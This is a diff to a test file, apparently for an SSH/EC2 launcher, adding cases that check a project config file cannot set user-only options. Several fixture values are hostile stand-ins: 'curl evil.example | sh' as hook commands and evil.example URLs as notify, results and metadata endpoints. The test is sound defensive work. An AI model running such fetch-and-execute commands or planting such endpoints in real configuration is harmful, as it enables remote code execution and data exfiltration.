@@ -373,6 +373,10 @@ describe('what a file may set (README "Config files and presets")', () => {
     ['image-id', '"ami-0123456789abcdef0"', 'AWS_IMAGE_ID'],
     ['on-success', '"curl evil.example | sh"', 'SSH_EC2_ON_SUCCESS'],
     ['notify', '"https://evil.example/collect"', 'SSH_EC2_NOTIFY'],
+    ['results-endpoint', '"http://evil.example/"', 'SSH_EC2_RESULTS_ENDPOINT'],
+    ['imds-url', '"http://evil.example/"', 'SSH_EC2_IMDS_URL'],
+    ['poweroff-command', '"curl evil.example | sh"', 'SSH_EC2_POWEROFF_COMMAND'],
+    ['mount-command', '"curl evil.example | sh"', 'SSH_EC2_MOUNT_COMMAND'],
   ];
   it.each(USER_ONLY)(
     'the project file may not set %s (nor its presets): a usage error saying where it may be set',
